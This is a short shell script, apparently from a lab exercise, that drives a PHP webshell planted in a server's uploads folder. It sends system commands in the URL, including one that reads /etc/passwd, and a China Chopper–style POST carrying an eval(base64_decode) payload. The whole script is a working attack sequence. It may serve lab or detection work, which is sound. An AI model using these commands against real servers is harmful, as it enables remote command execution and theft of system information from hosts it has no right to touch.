# A webshell in use: commands in the address and the answers (run for real on the laboratory's
# server), then the form which the China Chopper client sends.
# packages: curl nginx-light python3
web=(curl -s -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" "http://$SERVER/uploads/anh.php?cmd=id"
from attacker "${web[@]}" "http://$SERVER/uploads/anh.php?cmd=head%20-n%203%20/etc/passwd"
from attacker "${web[@]}" "http://$SERVER/uploads/anh.php?cmd=whoami"
from attacker "${web[@]}" --data-urlencode 'pass=@eval(base64_decode($_POST[z0]));' -d 'z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw%3D%3D' http://$SERVER/uploads/anh.php
